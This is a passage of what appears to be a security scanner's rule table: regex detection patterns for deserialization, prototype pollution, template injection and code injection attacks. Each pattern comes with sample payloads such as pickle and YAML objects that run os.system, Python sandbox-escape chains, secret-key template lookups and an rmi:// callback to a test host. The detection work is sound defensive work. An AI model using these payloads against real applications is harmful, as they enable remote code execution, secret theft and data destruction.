    _make("deserialization", "pickle_base64", r"^[\s\"']*(?-i:gA[JN][j9dxoYVcXB]|gA[QRST][VjJ][A-Za-z0-9+/_-]{0,8}AAAA|gA[SUW]V[A-Za-z0-9+/_-]{1,8}AAAA|KGRw|KGxw|KGlv|KFMn|Y29zC|Y3Bvc2l4|Y19fYnVpbHRpbl)[A-Za-z0-9+/_-]{16,}={0,2}", _SERIAL, STRONG, examples=('Y29zCnN5c3RlbQooUydpZCcKdFIu',)),
    _make("deserialization", "php_base64", r"^[\s\"']*(?-i:Tzo[0-9x-z]|YTo[0-9x-z]|Qzo[0-9x-z])[A-Za-z0-9+/_-]{12,}={0,2}", _SERIAL, MEDIUM, examples=('YToxOntpOjA7Tzo4OiJFeHBsb2l0IjowOnt9fQ==',)),
    _make("deserialization", "binary_base64", r"^[\s\"']*(?-i:/wEy|BAh[bijtuv7]|aced0005|ACED0005|rO0AB|AAEAAAD)[A-Za-z0-9+/_-]{8,}={0,2}", _SERIAL, STRONG, examples=('BAh7CEkiD3Nlc3Npb25',)),
    _make("deserialization", "type_name", r"^(?:system\.(?:windows\.data|diagnostics\.process|management\.automation|identitymodel|configuration\.install|workflow|security\.claims|activities)\b[\w.`+]*|com\.sun\.(?:rowset|org|jndi)[\w.]+|com\.mchange\.[\w.]+|javax\.script\.[\w.]+)(?:\s*[,:]\s*\S.*)?$|:#system\b", _SERIAL, STRONG, examples=('com.sun.org.apache',)),
    _make("deserialization", "type_name_java", r"^(?:org\.(?:springframework\.(?:context|beans|aop)|apache\.(?:commons|xalan|xbean))[\w.]+)(?:\s*[,:]\s*\S.*)?$", _SERIAL, 0.8, examples=('org.springframework.context.support.ClassPathXmlApplicationContext',)),
    _make("deserialization", "dotnet", r"\baaeaaad/{3}|__viewstate\b.{0,20}<|\"?\$type\"?\s*:\s*\"|objectdataprovider|system\.windows\.data|typeconfusedelegate|losformatter|<objectdataprovider", _SERIAL, examples=('AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u',)),
    _make("deserialization", "ruby_yaml", r"!ruby/(?:object|hash|struct)|!!(?:python|javax?|com|org|ruby)[/.:]|!!python/object|tag:yaml\.org,2002:(?:python|js)|!<tag:|\x04\x08[\[o{i\"]", _SERIAL, STRONG, examples=("!!python/object/apply:os.system ['id']",)),
    # A tag that calls or imports, wherever it stands in a document; a handle that hides a part of it.
    _make("deserialization", "yaml_tag", r"!(?:![\w-]*|[\w-]+!)?python/(?:object(?:/(?:apply|new))?:[a-z_]|(?:name|module):[a-z_])|!(?:[\w-]*!)?[a-z]*(?:thon|hon|on|n)?/object/(?:apply|new):[a-z_]", "PyYAML: tags of Python; CWE-502", DECISIVE, prefilter=("python/(?:object|name|module)", "/object/(?:apply|new):"), examples=("- 1\n- !!python/object/apply:eval ['1+1']", "a: !!python/name:os.system", "%TAG ! tag:yaml.org,2002:py\n---\n!thon/object/apply:os.system [ 'true' ]")),
    _make("deserialization", "yaml_handle", r"%TAG[ \t]+(?:![ \t]|![\w-]+!)[ \t]*(?:t|ta|tag|tag:|tag:y[a-z.]{0,7}|tag:yaml\.org,[\d]{0,4}|tag:yaml\.org,2002:[\w/.:]*)[ \t]*[\r\n]|%TAG[ \t]+!![ \t]+tag:yaml\.org,2002:p", "YAML 1.2, 6.8.2: tag handles", DECISIVE, prefilter=("%tag[ \\t]",), examples=("%TAG !y! tag:yaml.org,2002:\n---\n!y!python/object/apply:os.system ['true']", "%TAG !p! tag:yaml.org,2002:pyth\n---\n!p!on/x")),
    _make("deserialization", "java_type", r"\"@(?:type|class)\"\s*:\s*\"[\w.]+\"|<java\b[^>]*class\s*=|<(?:dynamic-proxy|sorted-set|tree-map|java\.util\.\w+)\b|rmi://|\bxstream\b", _SERIAL, STRONG, examples=('rmi://c4f1x9.oast.example/a',)),
    _make("deserialization", "node_serialize", r"_\$\$nd_func|xyqktkrfrlvoqyqk", "CVE-2017-5941", STRONG, examples=('_$$ND_FUNC$$_',)),
    _make("proto_pollution", "proto_key", r"__proto__|\bconstructor\s*(?:\.|\]?\[|%5b)\s*['\"]?prototype|\bprototype\s*[\].\[]|\"constructor\"\s*:\s*\{\s*\"prototype\"|\b__(?:define|lookup)[gs]etter__", "CWE-1321; PayloadsAllTheThings, Prototype Pollution", STRONG, examples=('__proto__',)),
    _make("code_injection", "session_fixation", r"\.cookie\s*=|\bset-cookie\b.{0,10}[=:]|http-equiv\W+set-cookie|\b(?:jsessionid|phpsessid|aspsessionid\w*|asp\.net_sessionid|sessionid)\b\s*=", "CWE-384; CRS 943 family", WEAK, examples=('a\rSet-Cookie:b=c',)),
    _make("code_injection", "python_chain", r"__(?:class|init|self|new|call|enter|func|wrapped|dict|base|mro)__(?:\(\)|\[\d{1,3}\]|['\"\])|.\s]){1,8}(?:attr\(\s*|\[?\s*['\"])?__(?:globals|mro|bases?|subclasses|builtins|dict|code|closure|init|reduce(?:_ex)?|getattribute|subclasshook|loader)__|__(?:globals|builtins|subclasses)__\s*['\"\])]{0,3}\s*[.\[(]", _PYTHON, STRONG,
          examples=("().__class__.__bases__[0].__subclasses__()", "app.config.__class__.__init__.__globals__['os']", "__builtins__['open']")),
    _make("code_injection", "python_format", r"\{[\w.\[\]!'\"]*\.__(?:init|globals|mro|bases?|subclasses|builtins|dict|code|closure|reduce|class__\.__[a-ce-lor-z])\w*__|\{[\w.\[\]]*\.__class__\}|(?:^|[^$%#{\\])\{\w[\w.]*[.\[](?:secret_key(?:_base)?|jwt_secret(?:_key)?|security_password_salt)[\]!:.}]|(?:^|[^$%#{\\])\{config\[\w*(?:secret|passw|_key|token|_uri|_url|salt)\w*\]", "CPython, format string syntax: attributes; CWE-134", CERTAIN,
          prefilter=(r"[.\[]secret_key", r"[.\[]jwt_secret", r"[.\[]security_password_salt", r"\{config\[", r"\.__dict__", r"\.__code__", r"\.__reduce", r"\.co_(?:consts|code)\b"),
          examples=("{0.__class__.__init__.__globals__}", "{user.__init__.__globals__[SECRET_KEY]}", "{a.__dict__}", "{self.app.secret_key}", "{config[SECRET_KEY]}")),
    _make("code_injection", "python_escape", r"(?:\(\)|\[\]|\{\}|''|\"\"|\(\s*lambda\b[^)]{0,40}\))\s*\.\s*__\w{3,20}__|getattr\(\s*[\w.\"'()\[\]]{1,40}\s*,\s*['\"]__\w{3,16}__|\b(?:gi|cr|tb|ag)_frame\s*\.|\bf_back\s*\.\s*f_|\.f_(?:globals|builtins)\b|\.co_(?:consts|code)\b|_templatereference__context|\b__builtins__\s*\[|\.__(?:reduce_ex|subclasshook)__|\.__code__\s*[.=]", _PYTHON, STRONG,
          prefilter=(r"\.f_(?:globals|builtins|back)", r"_templatereference"),
          examples=("{}.__class__.__base__", "(lambda:0).__globals__", "getattr(x,'__globals__')", "g.gi_frame.f_back.f_globals", "self._TemplateReference__context")),
    _make("code_injection", "python_path", r"^[\w.\[\]'\"/-]{0,80}__(?:globals|builtins|subclasses)__[\w.\[\]'\"/-]*$|^[\w.\[\]/-]{1,80}[.\[/]__(?:mro|bases?|class|dict)__[\]]?$|^[\w.\[\]/-]{0,80}__(?:class__[\].\[/]{1,3}_?\w|init__[\].\[/]{1,3}_)[\w.\[\]/-]*$", "CWE-1321 for Python: class pollution", STRONG,
          examples=("__init__.__globals__.SECRET", "user.__class__.__base__", "objects.0.__class__", "__class__.is_admin", "class.__globals__")),
    _make("template", "secret_lookup", r"^[\s'\"]*\{\{-?\s*[a-z_]\w*(?:\.\w+)*\.(?:\w*(?:passw(?:or)?d|secret|signer|private|credential)\w*|pwd|api_?key|hash)(?:\.\w+)*\s*(?:\|[^}]{0,60})?-?\}\}[\s'\"]*$", _SSTI, 0.35,
          prefilter=(r"\{\{-? ?\w[\w.]*\.\w*(?:passw|secret|signer|private|credential|pwd|api_?key|hash)",),
          examples=("{{user.password}}", "{{ customer.secret_key }}", "{{ messages.storages.0.signer.key }}")),
    _make("template", "template_of_site", r"^[\s'\"]*\{%-?\s*(?:include|extends|import|from|ssi)\s+['\"][^'\"]{1,80}['\"][^%]{0,60}%\}[\s'\"]*$|\bget_admin_log\b|\{%-?\s*(?:debug|ssi)\b", _SSTI, 0.5,
          prefilter=(r"\{%-? ?(?:include|extends|import|from|ssi|debug)\b", r"get_admin_log"),
          examples=("{% include 'secret.html' %}", "{% load log %}{% get_admin_log 9 as x %}", "{% debug %}")),
    _make("code_injection", "python_debugger", r"^[\s;]*(?:(?:breakpoint\(\)|import\s+pdb|pdb\.set_trace\(\))[\s;]*){1,3}$", _PYTHON, STRONG,
          prefilter=(r"breakpoint\(\)", r"import pdb", r"pdb\.set_trace"),
          examples=("breakpoint()", "import pdb; pdb.set_trace()")),
    _make("proto_pollution", "prototype_path", r"^[\w/.-]{0,60}/(?:constructor/prototype|__proto__)(?:/|$)", "CWE-1321; RFC 6901: a JSON pointer", STRONG,
          examples=("/constructor/prototype/admin", "/a/__proto__/x")),
    _make("code_injection", "flight_reference", r"(?:^|['\"])\$[0-9a-f]{1,4}:(?:\w{1,30}:){0,4}(?:__proto__|constructor|prototype|then|pop)(?:$|['\":])", "CVE-2025-55182: references between chunks", CERTAIN, examples=('{"a":"$7:Module:prototype"}',)),
    _make("code_injection", "node_index", r"\b(?:process|require|global)\s*\[\s*(?:req\.|['\"`]\w)", _NODE, STRONG, examples=("process[req.query.a", "require['main']")),
    _make("code_injection", "php_string_cast", r"\(\s*string\s*\)\s*['\"]\w{1,20}['\"]\s*(?:\.|\)?\s*\()", _PHP, STRONG, examples=("( string ) \"sys\".\"t\".\"em\" ('uname');",)),
    _make("code_injection", "php_index_call", r"\$\w*\[\s*\$\w*\[[^\]\r\n]{1,20}\]\s*\]\s*\(", _PHP, STRONG, examples=("$__[$_[1]](7)",)),
    _make("code_injection", "float_hang", r"\b2\.2250738585072011e-308\b|\b0\.22250738585072011e-307\b", "CVE-2010-4645, CVE-2010-4476: a number whose conversion never ends", STRONG, prefilter=(r"225073858507201",), examples=("2.2250738585072011e-308",)),
    # A call with only a variable. Nobody writes about one in a path.
    _make("code_injection", "php_variable_argument", r"^(?:[^\s(]*/)?[a-z_]\w+\s{0,4}\(\s{0,4}\$[a-z_]\w*\s{0,4}\)\s*;?\s*$", _PHP, 0.35, prefilter=(r"\w\(\$[a-z_]",), examples=("substr($x)", "/post/unpack($data)")),
    _make("code_injection", "python_call", r"^[\s'\"({]{0,6}(?:print\s*\(\s*)?(?:await\s+)?(?:subprocess\.(?:run|call|popen|check_\w+|get\w*output)|os\.(?:exec[lv]\w*|spawn[lv]\w*|posix_spawn\w*|fork|kill|startfile|remove|unlink|rmdir|putenv|chmod)|importlib\.(?:import_module|reload)|ctypes\.(?:cdll|windll|pythonapi|c_\w+)[\w.]{0,24}|commands\.get\w+|pty\.spawn|marshal\.loads?|c?pickle\.loads?|dill\.loads?|runpy\.run_\w+|code\.interact|shutil\.(?:rmtree|copy\w*|move)|platform\.popen|builtins\.\w+|timeit\.timeit|cprofile\.run|socket\.socket)\s*\(\s*(?:['\"\[(\d]|none\b|b['\"])|^\s*os\.fork\s*\(\s*\)\s*$", _PYTHON, STRONG,
          prefilter=(r"(?:marshal|pickle|dill)\.loads? ?\(", r"os\.(?:exec[lv]|spawn[lv]|posix_spawn|fork|kill|startfile|remove|unlink|rmdir|putenv|chmod)", r"(?:pty\.spawn|runpy\.run|code\.interact|shutil\.(?:rmtree|copy|move)|importlib\.(?:imp|rel)|ctypes\.(?:cdll|windll|python|c_)|platform\.popen|builtins\.|timeit\.timeit|cprofile\.run|socket\.socket)"),
          examples=("subprocess.run(['id'])", "os.fork()", "importlib.import_module('os')", "ctypes.CDLL(None)", "pickle.loads(b'x')", "shutil.rmtree('/')")),
    _make("code_injection", "python_power", r"^[\s('\"]*(?:\d{1,6}\s*\*\*\s*\d{1,6}\s*\*\*\s*\d|(?:'\w{0,8}'|\"\w{0,8}\"|\[\w{0,8}\]|\(\w{0,4},\))\s*\*\s*(?:\d{1,4}\s*\*\*\s*\d|\d{7}))", "CWE-400: a number or a text that fills the memory", STRONG,
          prefilter=(r"\d ?\*\* ?\d{1,6} ?\*\* ?\d", r"['\"\])] ?\* ?\d{1,4} ?\*\*", r"['\"\])] ?\* ?\d{7}"), examples=("9**9**9", "'a'*10**10", "[0]*10**9", "'a'*100000000")),
    _make("code_injection", "python_builtins", r"\b(?:getattr|vars|dir|hasattr|setattr|type)\s*\(\s*__builtins?__|\w\.__self__(?:\.|\[|\)|\s*$)|\btype\s*\(\s*['\"]\w{0,24}['\"]\s*,\s*\(|\{(?:\w{1,20}\.){0,3}app\.config\b|\{(?:\w{1,20}\.){0,3}request\.environ\b|\{\{\s*handler\.(?:settings|application|request)\b", _PYTHON, STRONG,
          prefilter=(r"\.__self__", r"(?:vars|dir|hasattr|setattr|type) ?\( ?__", r"type ?\( ?['\"]\w{0,24}['\"] ?, ?\(", r"\{[\w.]{0,60}(?:app\.config|request\.environ)"),
          examples=("getattr(__builtins__,'eval')", "print.__self__", "type('x',(),{})()", "{app.config}", "{request.environ}", "{{handler.settings}}")),
    _make("deserialization", "jsonpickle", r"^py/(?:object|reduce|function|type|repr|newargs\w*|newobj|iterator|state|seq|b64|b85)$|[\"']py/(?:object|reduce|function|repr|newargs\w*)[\"']\s*:|^__(?:reduce(?:_ex)?|setstate|getstate)__$", "jsonpickle documentation: tags; OWASP: Deserialization of untrusted data", CERTAIN,
          prefilter=(r"py/(?:object|reduce|function|type|repr|newarg|newobj|iterator|state)", r"__(?:reduce|setstate|getstate)"),
          examples=("py/object", "{'py/reduce': 1}", "__reduce__")),
    _make("deserialization", "tagged_object", r"^\s*(?:---\s*)?(?:[\w-]{1,24}:\s*)?!{1,2}(?:ruby|python)/(?:object|hash|struct|name|module|tuple|class|sym\w{0,4}|regexp|range|exception|array|string)", _SERIAL, CERTAIN, prefilter=(r"!(?:ruby|python)/",), examples=("--- !ruby/object:Gem::Installer", "!!python/object:x.Y {}", "!!ruby/object:Gem::Installer")),
    _make("deserialization", "pickle_instance", r"\([SVFIL][^\r\n]{0,60}\n(?:p\d{1,3}\n)?[io](?:os|posix|nt|builtins|__builtin__|subprocess|commands|sys|importlib)\n\w{1,40}\n", _SERIAL, CERTAIN, prefilter=(r"\n[io](?:os|posix|nt|builtins|__builtin__|subprocess|commands|sys|importlib)\n", r"\\n[io](?:os|posix|nt|builtins|__builtin__|subprocess|commands|sys|importlib)\\n"), examples=("(S'id'\nios\nsystem\n.",)),
    # Classes that start programs, as a whole value: the sender tests whether the app creates
    # objects by class name.
    _make("code_injection", "java_process", r"^[\s\"']*java(?:\.lang)?\.(?:runtime|processbuilder|processimpl)(?:\(\))?[\s\"';]*$", _JAVA, STRONG, examples=("java.lang.Runtime", "java.lang.ProcessBuilder")),
    _make("template", "django_settings", r"\{%\s*(?:firstof|if|with\s+\w+\s?=)\s*settings\b", _SSTI, CERTAIN, prefilter=(r"firstof settings", r"if settings\.", r"=settings "), examples=("{% firstof settings.SECRET_KEY %}", "{% if settings.SECRET_KEY > 'B' %}y{% endif %}")),
    _make("code_injection", "format_dunder", r"\{[\w.\[\]]+\.__[a-z]+__", _PYTHON, CERTAIN, prefilter=(r"\.__[a-z]",), examples=("{user.__dict__}", "{0.__doc__}")),
    # The table of all names of a program, in a field for one value.
    _make("code_injection", "python_names", r"^\s*(?:globals|locals|vars|exit|quit|breakpoint)\s*\(\s*\)\s*;?\s*$", _PYTHON, 0.7, prefilter=(r"exit\(\)", r"quit\(\)"), examples=("globals()", "exit()")),
)
